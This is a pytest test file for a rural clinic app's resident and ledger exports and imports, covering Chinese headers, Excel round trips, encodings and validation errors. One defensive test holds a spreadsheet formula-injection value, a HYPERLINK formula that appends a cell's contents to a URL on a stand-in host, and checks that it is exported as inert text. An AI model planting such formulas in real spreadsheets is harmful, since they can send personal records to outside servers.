"""Exports a village doctor can read (Chinese headers and values) and edit in Excel, and import them back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from clinic_app import ledger as L
from clinic_app.cli import main
from clinic_app.demo import create_demo_database
from clinic_app.errors import ValidationError
from clinic_app.store import Store
from clinic_app.transfer import export_rows

EN_COLUMNS = (
    "id_number",
    "document_type",
    "document_number",
    "name",
    "sex",
    "birth_date",
    "phone",
    "village",
    "household",
    "relation_to_head",
    "note",
)
ZH_HEADER = [
    "姓名",
    "性别",
    "出生日期",
    "身份证号",
    "证件类型",
    "证件号码",
    "联系电话",
    "村",
    "户号",
    "与户主关系",
    "备注",
]
PASSPORT = [
    "--document-type",
    "passport",
    "--document-number",
    "E12345678",
    "--sex",
    "F",
    "--birth-date",
    "1990-03-04",
    "--name",
    "Anna Li",
]


class Demo:
    def __init__(
        self,
        tmp: Path,
        capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch,
        residents: int = 300,
    ) -> None:
        self.db, self.key, self.tmp, self.capsys = tmp / "demo.db", tmp / "demo.key", tmp, capsys
        create_demo_database(self.db, self.key, residents=residents, seed=2)
        monkeypatch.setenv("CLINIC_PASSWORD", "admin1234")

    def __call__(self, *args: str, user: bool = True) -> tuple[int, str, str]:
        code = main(
            [*args, "--db", str(self.db), "--key-file", str(self.key), *(["--user", "admin"] if user else [])]
        )
        out = self.capsys.readouterr()
        return code, out.out, out.err

    def register(self) -> list[dict[str, object]]:
        store = Store.open(self.db, self.key)
        try:
            return export_rows(store)
        finally:
            store.close()

    def counts(self) -> dict[str, int]:
        """Rows of the register, and the resident and household changes waiting to sync."""
        store = Store.open(self.db, self.key)
        try:
            counts = store.table_counts(["resident", "household"])
            for table in ("resident", "household"):
                counts[f"outbox {table}"] = store.conn.execute(
                    "SELECT count(*) FROM outbox WHERE table_name = ?", (table,)
                ).fetchone()[0]
            return counts
        finally:
            store.close()


def _demo(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, residents: int
) -> Demo:
    d = Demo(tmp_path, capsys, monkeypatch, residents)
    code, _, err = d("resident", "add", *PASSPORT)
    assert code == 0, err  # one resident without an ID card
    return d


@pytest.fixture
def demo(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Demo:
    return _demo(tmp_path, capsys, monkeypatch, 300)


@pytest.fixture
def full_demo(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Demo:
    """The demo clinic as `./dev.sh demo` makes it: 2,000 residents."""
    return _demo(tmp_path, capsys, monkeypatch, 2000)


def _read_csv(path: Path, encoding: str = "utf-8-sig") -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding=encoding), newline="")))


def _write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8-sig") -> None:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))


def test_export_has_chinese_headers_and_values_by_default(demo: Demo) -> None:
    assert demo("export", "residents", "--format", "xlsx", "-o", str(demo.tmp / "r.xlsx"))[0] == 0
    book = load_workbook(demo.tmp / "r.xlsx")
    sheet = book.active
    assert sheet is not None and book.sheetnames == ["居民"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == ZH_HEADER
    column = {name: [r[i] for r in rows[1:]] for i, name in enumerate(ZH_HEADER)}
    assert set(column["性别"]) == {"男", "女"}
    assert set(column["证件类型"]) == {"居民身份证", "护照"}
    assert set(column["与户主关系"]) - {None} <= {
        "户主",
        "配偶",
        "子女",
        "父母",
        "孙子女",
        "兄弟姐妹",
        "其他",
    }
    assert "户主" in column["与户主关系"]
    assert all(isinstance(v, str) for v in column["身份证号"] if v), "ID numbers stay text, not numbers"

    assert demo("export", "residents", "--format", "csv", "-o", str(demo.tmp / "r.csv"))[0] == 0
    raw = (demo.tmp / "r.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so that Excel shows the Chinese"
    table = _read_csv(demo.tmp / "r.csv")
    assert table[0] == ZH_HEADER and {r[1] for r in table[1:]} == {"男", "女"}
    assert len(table) == 1 + 301


def test_headers_en_writes_field_names_and_codes_for_integrators(demo: Demo) -> None:
    code, out, _ = demo("export", "residents", "--format", "csv", "--headers", "en")
    table = list(csv.reader(io.StringIO(out, newline="")))
    assert code == 0 and table[0] == list(EN_COLUMNS)
    sex = EN_COLUMNS.index("sex")
    relation = EN_COLUMNS.index("relation_to_head")
    assert {r[sex] for r in table[1:]} == {"M", "F"}
    assert {r[relation] for r in table[1:]} - {""} <= {"head", "spouse", "child", "parent", "grandchild"}
    assert (
        demo("export", "residents", "--format", "xlsx", "--headers", "en", "-o", str(demo.tmp / "e.xlsx"))[0]
        == 0
    )
    sheet = load_workbook(demo.tmp / "e.xlsx")["residents"]
    assert [c.value for c in sheet[1]] == list(EN_COLUMNS)


def _change_phone_xlsx(source: Path, target: Path, name: str, phone: str) -> None:
    book = load_workbook(source)
    sheet = book.active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    name_col, phone_col = (
        header.index("姓名" if "姓名" in header else "name"),
        header.index("联系电话" if "联系电话" in header else "phone"),
    )
    for row in sheet.iter_rows(min_row=2):
        if row[name_col].value == name:
            row[phone_col].value = int(phone)  # as Excel stores a phone number typed into a cell
            break
    else:
        raise AssertionError(f"{name} not in the export")
    book.save(target)


@pytest.mark.parametrize("headers", ["zh", "en"])
def test_xlsx_edited_in_excel_imports_back_changing_one_resident(full_demo: Demo, headers: str) -> None:
    demo = full_demo
    before, counts = demo.register(), demo.counts()
    person = next(r for r in before if r["phone"])
    assert (
        demo("export", "residents", "--format", "xlsx", "--headers", headers, "-o", str(demo.tmp / "r.xlsx"))[
            0
        ]
        == 0
    )
    _change_phone_xlsx(demo.tmp / "r.xlsx", demo.tmp / "edited.xlsx", str(person["name"]), "13900001111")

    code, out, err = demo("import", "residents", str(demo.tmp / "edited.xlsx"))
    assert code == 0, err
    assert "imported 0 new residents, updated 1, 2000 unchanged" in out
    after = demo.register()
    changed = [(b, a) for b, a in zip(before, after, strict=True) if a != b]
    assert changed == [(person, {**person, "phone": "13900001111"})], "that one phone, nothing else"
    assert demo.counts() == {**counts, "outbox resident": counts["outbox resident"] + 1}, "one change to sync"


def test_csv_edited_imports_back_and_an_unchanged_file_changes_nothing(demo: Demo) -> None:
    before, counts = demo.register(), demo.counts()
    assert demo("export", "residents", "--format", "csv", "-o", str(demo.tmp / "r.csv"))[0] == 0
    code, out, _ = demo("import", "residents", str(demo.tmp / "r.csv"))
    assert code == 0 and "imported 0 new residents, updated 0, 301 unchanged" in out
    assert demo.register() == before and demo.counts() == counts, "an unchanged export writes nothing"

    table = _read_csv(demo.tmp / "r.csv")
    row = next(r for r in table[1:] if r[6])
    row[6] = "13900002222"
    _write_csv(demo.tmp / "gb.csv", table, encoding="gb18030")  # as Excel on a Chinese Windows saves a CSV
    code, out, err = demo("import", "residents", str(demo.tmp / "gb.csv"))
    assert code == 0 and "updated 1, 300 unchanged" in out, err
    assert next(r for r in demo.register() if r["id_number"] == row[3])["phone"] == "13900002222"


def test_import_keeps_the_fields_of_columns_the_file_lacks(demo: Demo) -> None:
    person = next(r for r in demo.register() if r["household"] and r["phone"])
    _write_csv(
        demo.tmp / "p.csv",
        [["身份证号", "姓名", "手机号"], [str(person["id_number"]), str(person["name"]), ""]],
    )
    code, out, err = demo("import", "residents", str(demo.tmp / "p.csv"))
    assert code == 0 and "updated 1" in out, err
    now = next(r for r in demo.register() if r["id_number"] == person["id_number"])
    assert now == {**person, "phone": None}, "an empty cell empties the field; household and village stay"

    passport = next(r for r in demo.register() if r["document_type"] == "passport")
    _write_csv(
        demo.tmp / "d.csv", [["证件号码", "姓名", "联系电话"], ["e12345678", "Anna Li", "13700001234"]]
    )
    code, out, err = demo("import", "residents", str(demo.tmp / "d.csv"))
    assert code == 0 and "imported 0 new residents, updated 1, 0 unchanged" in out, err
    now = next(r for r in demo.register() if r["document_type"] == "passport")
    assert now == {**passport, "phone": "13700001234"}, (
        "found by the document; its type, sex, birth date kept"
    )


def test_import_errors_name_the_column_as_the_file_names_it(demo: Demo) -> None:
    person = next(r for r in demo.register() if r["id_number"])
    ident = str(person["id_number"])
    _write_csv(
        demo.tmp / "zh.csv",
        [
            ["姓名", "公民身份号码", "性别", "与户主关系", "手机"],
            [str(person["name"]), ident, "男人", "邻居", "123"],
            ["王五", "6.32123E+17", "", "", ""],
            [str(person["name"]), ident, "", "", ""],
        ],
    )
    code, _, err = demo("import", "residents", str(demo.tmp / "zh.csv"))
    assert code == 3, err
    assert "row 2, column 性别: '男人' is not one of 男、女 (or M, F) [unknown]" in err
    assert "row 2, column 与户主关系: '邻居' is not one of 户主、配偶" in err
    assert "row 2, column 手机:" in err and "[format]" in err
    assert "row 3, column 公民身份号码:" in err and "[excel_number]" in err
    assert "row 4, column 公民身份号码: the same resident as row 2 [duplicate_in_file]" in err
    assert "sex" not in err.replace("Excel", "")
    _write_csv(demo.tmp / "en.csv", [["name", "id_number", "sex"], ["王五", "11010519491231002X", "X"]])
    code, _, err = demo("import", "residents", str(demo.tmp / "en.csv"))
    assert code == 3 and "row 2, column sex: 'X' is not one of 男、女 (or M, F)" in err
    _write_csv(demo.tmp / "none.csv", [["电话", "村"], ["13812345678", "柳树湾"]])
    code, _, err = demo("import", "residents", str(demo.tmp / "none.csv"))
    assert code == 3 and "姓名" in err and "身份证号" in err and "[missing_column]" in err


def test_an_export_imports_into_a_new_clinic_whole(demo: Demo, tmp_path: Path) -> None:
    assert demo("export", "residents", "--format", "xlsx", "-o", str(tmp_path / "r.xlsx"))[0] == 0
    villages = {r["village"] for r in demo.register() if r["village"]}
    db, key = tmp_path / "new.db", tmp_path / "new.key"
    assert (
        main(
            [
                "--db",
                str(db),
                "--key-file",
                str(key),
                "init",
                "--clinic-code",
                "C9",
                "--clinic-name",
                "新卫生室",
                "--admin",
                "admin",
            ]
        )
        == 0
    )
    for name in sorted(villages):
        assert (
            main(["--db", str(db), "--key-file", str(key), "--user", "admin", "village", "add", str(name)])
            == 0
        )
    demo.capsys.readouterr()
    code = main(
        [
            "--db",
            str(db),
            "--key-file",
            str(key),
            "--user",
            "admin",
            "import",
            "residents",
            str(tmp_path / "r.xlsx"),
        ]
    )
    out, err = demo.capsys.readouterr()
    assert code == 0 and "imported 301 new residents, updated 0, 0 unchanged" in out, err
    store = Store.open(db, key)
    try:
        assert export_rows(store) == demo.register(), "the same register, households and all"
    finally:
        store.close()


def _ledger_period(demo: Demo) -> int:
    store = Store.open(demo.db, demo.key)
    try:
        return int(store.conn.execute("SELECT max(period) FROM contract").fetchone()[0])
    finally:
        store.close()


def test_ledger_excel_is_chinese_by_default_and_english_on_request(demo: Demo) -> None:
    period = str(_ledger_period(demo))
    assert demo("ledger", "--period", period, "--xlsx", str(demo.tmp / "zh.xlsx"), user=False)[0] == 0
    book = load_workbook(demo.tmp / "zh.xlsx")
    assert book.sheetnames == ["汇总", "按月"]
    summary = {r[0]: r[1] for r in book["汇总"].iter_rows(values_only=True)}
    assert summary["至今支出（元）"] not in (None, "0.00"), "the demo's ordinary visits are the spending"
    assert [c.value for c in book["按月"][1]] == ["月份", "预拨（元）", "支出（元）", "结余（元）"]

    assert (
        demo(
            "ledger", "--period", period, "--xlsx", str(demo.tmp / "en.xlsx"), "--headers", "en", user=False
        )[0]
        == 0
    )
    book = load_workbook(demo.tmp / "en.xlsx")
    assert book.sheetnames == ["summary", "months"]
    english = {r[0]: r[1] for r in book["summary"].iter_rows(values_only=True)}
    assert english["heads (contracted and insured)"] == summary["签约且参保人数"]
    assert english["spending to date (yuan)"] == summary["至今支出（元）"]
    assert [c.value for c in book["months"][1]] == [
        "month",
        "budget (yuan)",
        "spending (yuan)",
        "surplus (yuan)",
    ]


def test_ledger_notes_of_provisional_heads_in_chinese() -> None:
    assert (
        L._note_zh("3 of the heads are provisional until the county confirms them") == "其中 3 人待县级确认"
    )
    assert L._note_zh("a note of the future") == "a note of the future"
    no_visits = "no outpatient visits are recorded yet: spending is 0 until visits come"
    assert L._note_zh(no_visits) == "尚无门诊记录：有门诊记录之前支出为 0"


# -- crafted text, crafted files (issue 11, breaks 5 and 15) -----------------------------------------------
HYPERLINK = '=HYPERLINK("http://x.example/?"&D2,"点此查看")'


def _as_sync_brings(demo: Demo) -> dict[str, str]:
    """A resident's note, village and household code that start like formulas, as another device may push them;
    the resident's ID number and the texts."""
    store = Store.open(demo.db, demo.key)
    try:
        r = store.conn.execute(
            "SELECT id, id_number, village_id, household_id FROM resident WHERE id_number "
            "IS NOT NULL AND household_id IS NOT NULL ORDER BY id LIMIT 1"
        ).fetchone()
        texts = {"note": HYPERLINK, "village": "+村@1", "household": "-H1"}
        with store.unit(None, "sync.pull") as uow:
            uow.update("resident", r["id"], {"note": texts["note"]})
            uow.update("village", r["village_id"], {"name": texts["village"]})
            uow.update("household", r["household_id"], {"code": texts["household"]})
        return {"id_number": r["id_number"], **texts}
    finally:
        store.close()


def test_text_that_starts_like_a_formula_is_exported_as_text(demo: Demo) -> None:
    crafted = _as_sync_brings(demo)
    assert demo("export", "residents", "--format", "xlsx", "-o", str(demo.tmp / "r.xlsx"))[0] == 0
    sheet = load_workbook(demo.tmp / "r.xlsx").worksheets[0]
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == [], "no formula"
    row = next(r for r in sheet.iter_rows(values_only=True) if r[3] == crafted["id_number"])
    assert (row[10], row[7], row[8]) == (crafted["note"], crafted["village"], crafted["household"]), (
        "shown as typed"
    )

    assert demo("export", "residents", "--format", "csv", "-o", str(demo.tmp / "r.csv"))[0] == 0
    fields = next(r for r in _read_csv(demo.tmp / "r.csv") if r[3] == crafted["id_number"])
    assert (fields[10], fields[7], fields[8]) == ("'" + HYPERLINK, "'+村@1", "'-H1"), "escaped (OWASP)"
    code, out, err = demo("import", "residents", str(demo.tmp / "r.csv"))
    assert code == 0 and "imported 0 new residents, updated 0, 301 unchanged" in out, (
        "read back as written" + err
    )


def test_a_csv_with_a_quote_never_closed_is_refused_naming_its_line(demo: Demo) -> None:
    before = demo.counts()
    (demo.tmp / "q.csv").write_text(
        "姓名,身份证号,备注\r\n王五,11010519491231002X,ok\r\n"
        '赵六,110105198001010016,"他说\r\n钱七,440524199001010018,\r\n',
        encoding="utf-8",
    )
    code, _, err = demo("import", "residents", str(demo.tmp / "q.csv"))
    assert code == 3, err
    assert 'line 3: a quote (") opened in this row is never closed' in err and "[csv_quote]" in err
    assert demo.counts() == before, "nothing imported"
    (demo.tmp / "t.csv").write_text(
        '姓名,身份证号,备注\r\n王五,11010519491231002X,"ok"x\r\n', encoding="utf-8"
    )
    code, _, err = demo("import", "residents", str(demo.tmp / "t.csv"))
    assert code == 3 and "line 2:" in err and "[csv_quote]" in err, err


def test_full_width_digits_in_an_import_are_read_as_ascii_and_other_digits_refused(demo: Demo) -> None:
    full = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
    _write_csv(
        demo.tmp / "f.csv",
        [
            ["姓名", "身份证号", "手机号"],
            ["王五", "11010519491231002X".translate(full), "13912345678".translate(full)],
        ],
    )
    code, out, err = demo("import", "residents", str(demo.tmp / "f.csv"))
    assert code == 0 and "imported 1 new" in out, err
    now = next(r for r in demo.register() if r["name"] == "王五")
    assert (now["id_number"], now["phone"]) == ("11010519491231002X", "13912345678")
    _write_csv(
        demo.tmp / "a.csv", [["姓名", "身份证号", "手机号"], ["赵六", "110105198001010016", "13٩١٢٣٤٥٦٧٨"]]
    )  # today's \d took it
    code, _, err = demo("import", "residents", str(demo.tmp / "a.csv"))
    assert code == 3 and "row 2, column 手机号:" in err and "[digits]" in err, err


def test_an_id_number_of_no_province_is_refused_and_an_unknown_county_warned(demo: Demo) -> None:
    code, _, err = demo("resident", "add", "--name", "王五", "--id-number", "000000199001010018")
    assert code == 3 and "id_number:" in err and "[province]" in err, err
    code, out, err = demo("resident", "add", "--name", "赵六", "--id-number", "449999199001010019")
    assert code == 0, err
    assert "ID number issued in 广东省" in out
    assert "warning: id_number: the county code 449999 is in no edition of GB/T 2260" in err
    code, out, err = demo("resident", "add", "--name", "钱七", "--id-number", "440524197001010019")
    assert code == 0 and "ID number issued in 广东省 潮阳县" in out and "warning" not in err, err
    _write_csv(demo.tmp / "w.csv", [["姓名", "身份证号"], ["孙八", "449999199002020016"]])
    code, out, err = demo("import", "residents", str(demo.tmp / "w.csv"))
    assert code == 0 and "warning: row 2, column 身份证号: the county code 449999" in err, err


def test_an_xlsx_that_cannot_be_saved_leaves_no_row_writer_to_fail_later(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import gc
    import sys

    from clinic_app.transfer import write_xlsx

    ignored: list[object] = []
    monkeypatch.setattr(sys, "unraisablehook", ignored.append)
    with pytest.raises(ValidationError) as err:  # cells.save_workbook: the folder must exist
        write_xlsx(tmp_path / "gone" / "x.xlsx", "居民", ["姓名"], [["张三"]])
    assert err.value.rule == "folder_missing"
    gc.collect()
    assert ignored == [], "no 'Exception ignored in <generator … _write_rows>' after the message"


def test_a_ledger_workbook_into_a_missing_folder_is_refused_and_nothing_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import gc
    import sys

    db, key = tmp_path / "d.db", tmp_path / "d.key"
    create_demo_database(db, key, residents=30, seed=2)
    store = Store.open(db, key)
    book = L.build(store.conn, store.clinic_id, 2026)
    store.close()
    ignored: list[object] = []
    monkeypatch.setattr(sys, "unraisablehook", ignored.append)
    with pytest.raises(ValidationError) as err:  # the folder must exist (cells.save_workbook)
        L.export_xlsx(book, tmp_path / "gone" / "ledger.xlsx")
    assert err.value.rule == "folder_missing"
    gc.collect()
    assert ignored == [] and not (tmp_path / "gone").exists()


def test_an_import_naming_a_second_head_of_a_household_is_refused(demo: Demo) -> None:
    head = next(r for r in demo.register() if r["relation_to_head"] == "head" and r["household"])
    village = str(head["village"])
    _write_csv(
        demo.tmp / "heads.csv",
        [
            ["姓名", "公民身份号码", "村", "户号", "与户主关系"],
            ["王五", "11010519491231002X", village, str(head["household"]), "户主"],
            ["赵六", "445224199202290042", village, "H777777", "户主"],
            ["赵七", "110105198001010016", village, "H777777", "户主"],
        ],
    )
    code, _, err = demo("import", "residents", str(demo.tmp / "heads.csv"))
    assert code == 3, err
    assert (
        f"row 2, column 与户主关系: household {head['household']} has a head already, {head['name']}" in err
    )
    assert "row 4, column 与户主关系: row 3 names the head of this household already [second_head]" in err
    assert "row 3," not in err
